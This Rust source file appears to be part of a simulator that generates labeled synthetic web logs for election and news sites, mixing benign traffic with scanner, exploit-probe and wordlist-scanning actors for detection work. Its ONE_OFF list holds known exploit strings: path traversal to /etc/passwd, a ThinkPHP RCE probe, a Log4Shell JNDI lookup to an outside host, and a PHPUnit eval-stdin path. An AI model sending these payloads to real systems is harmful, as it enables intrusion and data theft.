//! The requests of `election-actor`: benign traffic, the research scanner,
//! commodity scanners, one-off exploit probes and the actor.

use super::SITES;
use crate::clock::{DAY, MS, PERIOD_START};
use crate::election::benign::user_ip;
use crate::election::catalog::{self, SiteKind, BINGBOT, BROWSERS, GOOGLEBOT, UPTIMEROBOT};
use crate::label::{LabelKind, LabelSpec, Labels, Tag, NO_TAG};
use crate::write::addr;
use crate::write::Req;
use crate::SimOptions;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::borrow::Cow;
use std::net::IpAddr;

const HOUR: i64 = 3_600_000;
const MINUTE: i64 = 60_000;

/// The actor's addresses: four in one /24, one in another IPv4 network, one IPv6.
pub(crate) const ACTOR_IPS: [&str; 6] = [
    "45.146.164.11",
    "45.146.164.12",
    "45.146.164.57",
    "45.146.164.203",
    "91.92.251.17",
    "2a0e:1c80:3:1::44",
];
/// Sites each actor address scans, and the week (0–3) it is active in.
const ACTOR_PLAN: [(&[u8], u32); 6] = [
    (&[0, 1], 0),
    (&[2, 3], 1),
    (&[4, 5], 2),
    (&[6, 7], 3),
    (&[0, 4, 6], 1),
    (&[1, 3, 7], 2),
];
/// A plain desktop browser: benign-looking on its own.
const ACTOR_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36";

/// The research scanner's addresses (one /24) and User-Agent.
pub(crate) const RESEARCH_IPS: [&str; 3] = ["162.142.125.9", "162.142.125.41", "162.142.125.200"];
const RESEARCH_UA: &str =
    "Mozilla/5.0 (compatible; InternetSurvey/2.1; +https://survey.research.example/about)";
const RESEARCH_PATHS: &[&str] = &[
    "/.well-known/security.txt",
    "/robots.txt",
    "/sitemap.xml",
    "/.git/HEAD",
    "/.svn/entries",
    "/actuator/health",
    "/actuator/env",
    "/v2/_catalog",
    "/api/v1/pods",
    "/server-status",
    "/.DS_Store",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/global-protect/login.esp",
    "/vpn/index.html",
    "/dana-na/auth/url_default/welcome.cgi",
    "/sslvpn/Login/Login",
    "/cgi-bin/luci",
    "/manager/html",
    "/solr/admin/info/system",
    "/jenkins/login",
    "/console/login/LoginForm.jsp",
    "/_ignition/health-check",
    "/telescope/requests",
    "/metrics",
    "/debug/pprof/",
    "/graphql",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/.well-known/openid-configuration",
    "/autodiscover/autodiscover.xml",
    "/ecp/",
    "/webui/",
    "/ui/login",
    "/login.action",
    "/nifi/",
    "/hudson",
    "/index.jsp",
    "/cf_scripts/scripts/ajax/ckeditor/ckeditor.js",
    "/phpmyadmin/",
];

/// Commodity scanners: a stock library User-Agent and a public wordlist.
const COMMODITY_UA: &str = "python-requests/2.31.0";
const COMMODITY_SOURCES: usize = 10;
/// One-off exploit probes from unrelated sources.
const ONE_OFF: &[&str] = &[
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
    "/?x=${jndi:ldap://203.0.113.66:1389/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];
const ONE_OFF_SOURCES: usize = 12;

/// The actor's own wordlist, walked in this order: election-specific
/// folders × files, with its habit of capitalised ASP.NET names.
fn actor_wordlist() -> Vec<String> {
    const DIRS: &[&str] = &[
        "/VoterReg",
        "/results/admin",
        "/ENR",
        "/evr",
        "/ballot",
        "/pollbook",
        "/canvass",
        "/sos/api",
        "/elections/staff",
        "/precincts",
        "/absentee",
        "/uocava",
    ];
    const FILES: &[&str] = &[
        "Export.aspx",
        "voters.csv",
        "backup.zip",
        "web.config.bak",
        "Upload.ashx",
        "db_dump.sql",
        "Default.aspx.old",
        "config.json",
        "debug.log",
        "Admin.aspx",
    ];
    let mut v = Vec::new();
    for f in FILES {
        for d in DIRS {
            v.push(format!("{d}/{f}"));
        }
    }
    v
}

struct Gen<'a> {
    opts: &'a SimOptions,
    rng: ChaCha8Rng,
    labels: &'a mut Labels,
    out: Vec<Req>,
}

fn day_ms(d: u32) -> i64 {
    (PERIOD_START + i64::from(d) * DAY) * MS
}

/// Weekday of day `d` of the period, 0 = Monday (2026-09-01 is a Tuesday).
fn weekday(d: u32) -> u32 {
    (d + 1) % 7
}

impl Gen<'_> {
    fn days(&self) -> u32 {
        self.opts.days
    }

    #[allow(clippy::too_many_arguments)]
    fn tag(
        &mut self,
        kind: LabelKind,
        actor: &'static str,
        role: &'static str,
        ip: IpAddr,
        site: usize,
        detector: Option<&'static str>,
        technique: Option<&'static str>,
    ) -> Tag {
        self.labels.tag(LabelSpec {
            kind,
            actor,
            role,
            ip,
            site: SITES[site].host,
            detector,
            technique,
            prefix: None,
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        ms: i64,
        ip: IpAddr,
        method: &'static str,
        target: Cow<'static, str>,
        status: u16,
        ua: &'static str,
        site: usize,
        tag: Tag,
    ) {
        let bytes = match status {
            200 => self.rng.gen_range(4_000..40_000),
            _ => 180 + self.rng.gen_range(0..60),
        };
        self.out.push(Req {
            ms,
            ip,
            method,
            target,
            status,
            bytes,
            ua,
            referer: Cow::Borrowed(""),
            site: site as u8,
            tag,
        });
    }

    fn kind(site: usize) -> SiteKind {
        if SITES[site].sector == "news" {
            SiteKind::News
        } else {
            SiteKind::Election
        }
    }

    /// Browsers (untagged), two crawlers and an uptime monitor.
    fn benign(&mut self) {
        let per_day = self.opts.rate.max(1);
        for site in 0..SITES.len() {
            let kind = Self::kind(site);
            let pages = catalog::pages(kind);
            let assets = catalog::assets(kind);
            let broken = catalog::broken_links(kind);
            let google = self.tag(
                LabelKind::Benign,
                "googlebot",
                "crawler",
                addr("66.249.66.1"),
                site,
                None,
                None,
            );
            let bing = self.tag(
                LabelKind::Benign,
                "bingbot",
                "crawler",
                addr("40.77.167.12"),
                site,
                None,
                None,
            );
            // The monitor watches every site, as the actor and the research
            // scanner touch every site.
            let monitor = self.tag(
                LabelKind::Benign,
                "uptimerobot",
                "monitor",
                addr("69.162.124.226"),
                site,
                None,
                None,
            );
            for d in 0..self.days() {
                let day = day_ms(d);
                let mut n = 0;
                while n < per_day {
                    let ip = user_ip(&mut self.rng);
                    let ua = *BROWSERS.choose(&mut self.rng).expect("non-empty");
                    let mut t = day + self.rng.gen_range(0..DAY * MS);
                    for _ in 0..self.rng.gen_range(1..5) {
                        let (p, status): (Cow<'static, str>, u16) = if self.rng.gen_ratio(1, 40) {
                            (
                                Cow::Borrowed(*broken.choose(&mut self.rng).expect("non-empty")),
                                404,
                            )
                        } else {
                            (
                                Cow::Owned(pages.choose(&mut self.rng).expect("non-empty").clone()),
                                200,
                            )
                        };
                        self.push(t, ip, "GET", p, status, ua, site, NO_TAG);
                        for a in assets.iter().take(3) {
                            self.push(t + 200, ip, "GET", Cow::Borrowed(a), 200, ua, site, NO_TAG);
                        }
                        t += self.rng.gen_range(5_000..90_000);
                        n += 4;
                    }
                }
                for h in 0..24 {
                    let t = day + h * HOUR + self.rng.gen_range(0..HOUR);
                    let p = pages.choose(&mut self.rng).expect("non-empty").clone();
                    let (ip, ua, tag) = if h % 3 == 0 {
                        (addr("40.77.167.12"), BINGBOT, bing)
                    } else {
                        (addr("66.249.66.1"), GOOGLEBOT, google)
                    };
                    self.push(t, ip, "GET", Cow::Owned(p), 200, ua, site, tag);
                }
                for k in 0..(24 * 12) {
                    let t = day + k * 5 * MINUTE + 7_000;
                    self.push(
                        t,
                        addr("69.162.124.226"),
                        "HEAD",
                        Cow::Borrowed("/"),
                        200,
                        UPTIMEROBOT,
                        site,
                        monitor,
                    );
                }
            }
        }
    }

    /// Every site, every week, from one of three addresses, at any hour.
    fn research(&mut self) {
        let weeks = self.days().div_ceil(7);
        for w in 0..weeks {
            for site in 0..SITES.len() {
                let ip = addr(RESEARCH_IPS[(w as usize + site) % RESEARCH_IPS.len()]);
                let tag = self.tag(
                    LabelKind::Benign,
                    "research-scanner",
                    "research_scan",
                    ip,
                    site,
                    None,
                    None,
                );
                let d = (w * 7 + self.rng.gen_range(0..7)).min(self.days() - 1);
                let mut t = day_ms(d) + self.rng.gen_range(0..DAY * MS);
                for p in RESEARCH_PATHS {
                    let status = if *p == "/robots.txt" || *p == "/sitemap.xml" {
                        200
                    } else {
                        404
                    };
                    self.push(
                        t,
                        ip,
                        "GET",
                        Cow::Borrowed(p),
                        status,
                        RESEARCH_UA,
                        site,
                        tag,
                    );
                    t += self.rng.gen_range(400..1_200);
                }
            }
        }
    }

    /// Unrelated sources running the same public wordlist with a stock
    /// library User-Agent, each against one site.
    fn commodity(&mut self) {
        let mut list = catalog::scan_paths();
        list.truncate(40);
        for k in 0..COMMODITY_SOURCES {
            let ip = IpAddr::from([
                100 + k as u8,
                self.rng.gen(),
                self.rng.gen(),
                self.rng.gen_range(1..255),
            ]);
            let site = self.rng.gen_range(0..SITES.len());
            let tag = self.tag(
                LabelKind::Attack,
                "commodity",
                "scan",
                ip,
                site,
                Some("web.scan"),
                Some("T1595.003"),
            );
            let mut t =
                day_ms(self.rng.gen_range(0..self.days())) + self.rng.gen_range(0..DAY * MS);
            for p in list.clone() {
                self.push(t, ip, "GET", Cow::Owned(p), 404, COMMODITY_UA, site, tag);
                t += self.rng.gen_range(300..900);
            }
        }
    }

    /// Single exploit requests from unrelated sources.
    fn one_off(&mut self) {
        for k in 0..ONE_OFF_SOURCES {
            let ip = IpAddr::from([
                150 + k as u8,
                self.rng.gen(),
                self.rng.gen(),
                self.rng.gen_range(1..255),
            ]);
            let site = self.rng.gen_range(0..SITES.len());
            let tag = self.tag(
                LabelKind::Attack,
                "background",
                "exploit",
                ip,
                site,
                Some("web.exploit"),
                Some("T1190"),
            );
            let t = day_ms(self.rng.gen_range(0..self.days())) + self.rng.gen_range(0..DAY * MS);
            let p = ONE_OFF[k % ONE_OFF.len()];
            let ua = *BROWSERS.choose(&mut self.rng).expect("non-empty");
            self.push(t, ip, "GET", Cow::Borrowed(p), 404, ua, site, tag);
        }
    }

    /// The actor: each address in its week, Monday to Friday 06–14 UTC,
    /// walks its wordlist in order (dropping about one path in ten).
    fn actor(&mut self) {
        let list = actor_wordlist();
        for (k, (sites, week)) in ACTOR_PLAN.iter().enumerate() {
            let ip = addr(ACTOR_IPS[k]);
            // Week `week` of four, scaled to the period.
            let first = (f64::from(*week) / 4.0 * f64::from(self.days())) as u32;
            for (n, &site) in sites.iter().enumerate() {
                let site = usize::from(site);
                let tag = self.tag(
                    LabelKind::Attack,
                    "actor-b",
                    "wordlist_scan",
                    ip,
                    site,
                    Some("web.scan"),
                    Some("T1595.003"),
                );
                let mut d = (first + n as u32).min(self.days() - 1);
                while weekday(d) >= 5 && d > 0 {
                    d -= 1;
                }
                let mut t = day_ms(d) + 6 * HOUR + self.rng.gen_range(0..5 * HOUR);
                for p in &list {
                    if self.rng.gen_ratio(1, 10) {
                        continue;
                    }
                    self.push(
                        t,
                        ip,
                        "GET",
                        Cow::Owned(p.clone()),
                        404,
                        ACTOR_UA,
                        site,
                        tag,
                    );
                    t += self.rng.gen_range(1_500..4_000);
                }
            }
        }
    }
}

/// Every request of the period (unsorted), registering their labels.
pub(super) fn plan(opts: &SimOptions, labels: &mut Labels) -> Vec<Req> {
    let mut rng = ChaCha8Rng::seed_from_u64(opts.seed);
    rng.set_stream(7);
    let mut g = Gen {
        opts,
        rng,
        labels,
        out: Vec::new(),
    };
    g.benign();
    g.research();
    g.commodity();
    g.one_off();
    g.actor();
    g.out
}
